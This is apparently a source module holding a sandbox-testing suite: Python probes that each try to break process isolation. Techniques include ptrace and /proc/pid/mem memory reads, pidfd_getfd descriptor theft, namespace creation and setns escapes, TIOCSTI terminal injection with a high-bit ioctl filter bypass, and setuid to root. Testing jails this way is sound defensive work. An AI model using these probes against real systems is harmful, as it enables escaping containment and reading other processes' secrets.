/** Attacks on other processes, and on what keeps this one in its place. */
export const processes = String.raw`
victim = config.get("victim", {}).get("pid")


def foreign():
    """The victim's pid, unless the same number is one of the jail's own processes."""
    try:
        if not bare and config["mark"].encode() not in read("/proc/%d/cmdline" % victim):
            raise ProcessLookupError(errno.ESRCH, "that number is a process of the jail")
    except FileNotFoundError:
        pass
    return victim


@attack("P1")
def _():
    found = []
    for pid in pids():
        try:
            if config["mark"].encode() in read("/proc/%d/cmdline" % pid):
                os.kill(pid, 0)
                found.append(pid)
        except OSError:
            pass
    return bool(found), "%d processes of the host" % len(found)


@attack("P2")
def _():
    os.kill(foreign(), signal.SIGUSR1)
    time.sleep(0.05)
    return False, "sent, but the victim did not hear it"


@attack("P3")
def _():
    PEEKDATA, ATTACH, DETACH = 2, 16, 17
    pid = foreign()
    word = ctypes.c_long()
    call("ptrace", ATTACH, pid, 0, 0)
    try:
        os.waitpid(pid, 0x40000000)
        data = b""
        for offset in range(0, 64, 8):
            call("ptrace", PEEKDATA, pid, config["victim"]["memory"]["P3"] + offset, ctypes.byref(word))
            data += struct.pack("l", word.value)
        return data
    finally:
        call("ptrace", DETACH, pid, 0, 0)


@attack("P4")
def _():
    buffer = ctypes.create_string_buffer(64)
    ours = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
    theirs = (ctypes.c_size_t * 2)(config["victim"]["memory"]["P4"], 64)
    call("process_vm_readv", foreign(), ours, 1, theirs, 1, 0)
    return buffer.raw


@attack("P11")
def _():
    with open("/proc/%d/mem" % foreign(), "rb", 0) as memory:
        memory.seek(config["victim"]["memory"]["P11"])
        return memory.read(64)


@attack("P12")
def _():
    """Takes a copy of an open descriptor out of another process."""
    if bare:
        os.close(call("pidfd_getfd", os.pidfd_open(victim), config["victim"]["fd"], 0))
        return True, "a file that the victim has open"
    refused = None
    for pid in [p for p in pids() if p != os.getpid()]:
        for number in range(64):
            try:
                call("pidfd_getfd", os.pidfd_open(pid), number, 0)
                return True, "descriptor %d of process %d" % (number, pid)
            except OSError as error:
                refused = error
    raise refused


@attack("P13")
def _():
    """Signals and terminals travel by process group and session."""
    shared = [n for n, got in (("group", os.getpgid(os.getppid())), ("session", os.getsid(0))) if got == 0]
    try:
        os.close(os.open("/dev/tty", os.O_RDWR))
        shared.append("controlling terminal")
    except OSError:
        pass
    return bool(shared), ", ".join(shared) or "own group and session, no terminal"


def forked(number_of_call, *args):
    """A raw fork: the child leaves at once."""
    pid = call(number_of_call, *args)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return True


@attack("P5")
def _():
    call("unshare", CLONE_NEWUSER)
    return True


@attack("P14")
def _():
    return forked("clone", CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)


@attack("P15")
def _():
    arguments = struct.pack("QQQQQQQQ", CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    return forked("clone3", ctypes.create_string_buffer(arguments), 64)


@attack("P6")
def _():
    private_mounts()
    target = config["writable"].encode()

    def by_context():
        context = call("fsopen", b"tmpfs", 0)
        os.close(context)

    return any_of(
        ("mount", lambda: call("mount", b"tmpfs", target, b"tmpfs", 0, None)),
        ("fsopen", by_context),
        ("open_tree", lambda: os.close(call("open_tree", AT_FDCWD, target, 1))),
    )


@attack("P7")
def _():
    tries = []
    for pid in (1, victim):
        for name, flag in (("mnt", CLONE_NEWNS), ("net", 0x40000000), ("user", CLONE_NEWUSER)):
            link = "/proc/%d/ns/%s" % (pid, name)
            tries.append((link, lambda l=link, f=flag: call("setns", os.open(l, os.O_RDONLY), f)))
        tries.append(("pidfd %d" % pid, lambda p=pid: call("setns", os.pidfd_open(p), CLONE_NEWNS)))
    return any_of(*[(n, lambda t=t: in_child(t) == 0) for n, t in tries])


@attack("P9")
def _():
    shared = config["victim"]["shared"]
    if shared is None:
        raise Skip("the kernel gave the victim no shared memory")
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(shared, None, 0o10000)
    if address == ctypes.c_void_p(-1).value:
        raise OSError(ctypes.get_errno(), "shmat")
    return ctypes.string_at(address, 64)


@attack("P10")
def _():
    """Types into a terminal; it is one of the probe's own."""
    TIOCSTI, TIOCSCTTY, TIOCLINUX = 0x5412, 0x540E, 0x541C

    def type_into(request):
        import fcntl, pty

        leader, terminal = pty.openpty()

        def inside():
            os.setsid()
            fcntl.ioctl(terminal, TIOCSCTTY, 0)
            fcntl.ioctl(terminal, request, b"x")

        code = in_child(inside)
        if code:
            raise OSError(code, "ioctl")

    high = 1 << 32
    return any_of(
        ("TIOCSTI", lambda: type_into(TIOCSTI)),
        ("TIOCLINUX", lambda: type_into(TIOCLINUX)),
        ("TIOCSTI with a high bit", lambda: high_bit(TIOCSTI | high)),
    )


def high_bit(request):
    """The kernel looks at 32 bits of the request; a filter that looks at 64 can be fooled."""
    import pty

    leader, terminal = pty.openpty()

    def inside():
        os.setsid()
        libc.ioctl(terminal, ctypes.c_ulong(0x540E), 0)
        if libc.ioctl(terminal, ctypes.c_ulong(request), b"x") < 0:
            raise OSError(ctypes.get_errno(), "ioctl")

    code = in_child(inside)
    if code:
        raise OSError(code, "ioctl")


@attack("P16")
def _():
    """Becomes someone else, or gets the means for it."""
    def other(function, *args):
        return lambda: in_child(lambda: function(*args)) == 0

    if os.getuid() == 0 and bare:
        return True, "is root already"
    return any_of(
        ("setuid 0", other(os.setuid, 0)),
        ("setresuid 1", other(os.setresuid, 1, 1, 1)),
        ("setgroups", other(os.setgroups, [0])),
        ("setgid 0", other(os.setgid, 0)),
    )


@attack("P17")
def _():
    """Pushes itself in front of the host's own programs."""
    def first_to_run():
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))

    return any_of(
        ("real-time scheduling", lambda: in_child(first_to_run) == 0),
        ("a better nice value", lambda: in_child(lambda: os.setpriority(0, 0, -5)) == 0),
        ("never killed for memory", lambda: write("/proc/self/oom_score_adj", "-1000", os.O_WRONLY)),
    )


@attack("P18")
def _():
    """Reads or sets the limits of a process of the host."""
    import resource

    return resource.prlimit(foreign(), resource.RLIMIT_NOFILE)[1] > 0
`;
